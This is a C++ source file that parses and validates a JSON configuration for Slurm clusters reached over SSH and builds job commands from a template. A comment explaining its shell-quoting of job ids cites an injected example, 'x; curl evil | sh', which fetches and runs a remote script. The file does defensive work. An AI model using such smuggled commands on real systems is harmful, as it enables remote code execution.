#include "dispatch/clusterconfig.h"

#include "core/dispatch/shellquote.h"
#include "core/json/json.h"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <fstream>
#include <sstream>
#include <string_view>

namespace greenlight {

namespace {

// The job id as one shell word: sbatch --wrap runs the command through sh, and a trace's job id
// is anyone's text ("x; curl evil | sh" would have run on the cluster). Plain ids stay as they are.
std::string shellWord(const std::string& text)
{
    const bool plain = !text.empty() && std::all_of(text.begin(), text.end(), [](char c) {
        return std::isalnum(static_cast<unsigned char>(c)) || std::string_view("._+:@%/=,-").find(c) != std::string_view::npos;
    });
    return plain ? text : shellQuote(text);
}

} // namespace

std::string ClusterEndpoint::commandFor(const std::string& jobId) const
{
    const std::string word = shellWord(jobId);
    std::string command = jobCommand;
    for (std::size_t at = command.find("{job}"); at != std::string::npos; at = command.find("{job}", at)) {
        command.replace(at, 5, word);
        at += word.size(); // past the id, which may itself contain "{job}"
    }
    return command;
}

Seconds ClusterEndpoint::timeLimitFor(Seconds run) const
{
    if (timeLimitFactor <= 0.0 || run <= Seconds{0})
        return Seconds{0};
    const auto scaled = Seconds{static_cast<long long>(std::ceil(static_cast<double>(run.count()) * timeLimitFactor))};
    return std::max(scaled, run + Seconds{3600});
}

const ClusterEndpoint* ClusterConfig::forSite(const std::string& site) const
{
    for (const ClusterEndpoint& c : clusters)
        if (c.site == site)
            return &c;
    return nullptr;
}

Result<ClusterConfig> parseClusterConfig(std::string_view text, std::string_view label)
{
    const std::string source(label);
    Result<JsonValue> doc = parseJson(text, label);
    if (!doc.ok())
        return doc.status();
    if (!doc->get("clusters").isArray())
        return Status(StatusCode::InvalidArgument, "expected {\"clusters\": [...]}", source);
    ClusterConfig config;
    for (const JsonValue& c : doc->get("clusters").items()) {
        const std::string where = source + ":" + std::to_string(c.line());
        ClusterEndpoint e;
        e.site = c.get("site").asString();
        e.kind = c.get("kind").isString() ? c.get("kind").asString() : "slurm-ssh";
        if (e.site.empty())
            return Status(StatusCode::InvalidArgument, "a cluster without \"site\"", where);
        if (e.kind != "slurm-ssh")
            return Status(StatusCode::InvalidArgument,
                          "site " + e.site + ": kind '" + e.kind + "' is not supported here (slurm-ssh)", where);
        e.ssh.host = c.get("host").asString();
        e.ssh.port = static_cast<int>(c.get("port").asNumber(22));
        e.ssh.user = c.get("user").asString();
        e.ssh.identity = c.get("identity").asString();
        e.ssh.knownHosts = c.get("known_hosts").asString();
        e.partition = c.get("partition").asString();
        e.jobCommand = c.get("job_command").asString();
        const double interval = c.get("min_interval_ms").asNumber(0);
        if (c.get("time_limit_factor").isPresent()) {
            const double factor = c.get("time_limit_factor").asNumber(-1.0);
            if (!c.get("time_limit_factor").isNumber() || !(factor == 0.0 || (factor >= 1.0 && factor <= 100.0)))
                return Status(StatusCode::InvalidArgument,
                              "site " + e.site + ": time_limit_factor must be 0 (no --time) or between 1 and 100", where);
            e.timeLimitFactor = factor;
        }
        if (c.get("checkpoint_grace_s").isPresent()) {
            const double grace = c.get("checkpoint_grace_s").asNumber(-1.0);
            if (!c.get("checkpoint_grace_s").isNumber() || grace < 0.0 || grace > 3600.0 || std::floor(grace) != grace)
                return Status(StatusCode::InvalidArgument,
                              "site " + e.site + ": checkpoint_grace_s must be whole seconds from 0 to 3600", where);
            e.checkpointGrace = Seconds{static_cast<long long>(grace)};
        }
        if (e.ssh.host.empty() || e.ssh.user.empty() || e.ssh.knownHosts.empty() || e.partition.empty())
            return Status(StatusCode::InvalidArgument,
                          "site " + e.site + ": \"host\", \"user\", \"known_hosts\" and \"partition\" are required",
                          where);
        if (e.ssh.port < 1 || e.ssh.port > 65535 || interval < 0 || interval > 60'000)
            return Status(StatusCode::InvalidArgument, "site " + e.site + ": port or min_interval_ms out of range",
                          where);
        if (config.forSite(e.site) != nullptr)
            return Status(StatusCode::InvalidArgument, "site " + e.site + " is listed twice", where);
        e.minInterval = std::chrono::milliseconds{static_cast<long long>(interval)};
        config.clusters.push_back(std::move(e));
    }
    return config;
}

Result<ClusterConfig> loadClusterConfig(const std::filesystem::path& path)
{
    std::ifstream in(path);
    if (!in)
        return Status(StatusCode::NotFound, "cannot read " + path.string(), "clusters");
    std::stringstream text;
    text << in.rdbuf();
    return parseClusterConfig(text.str(), path.string());
}

} // namespace greenlight
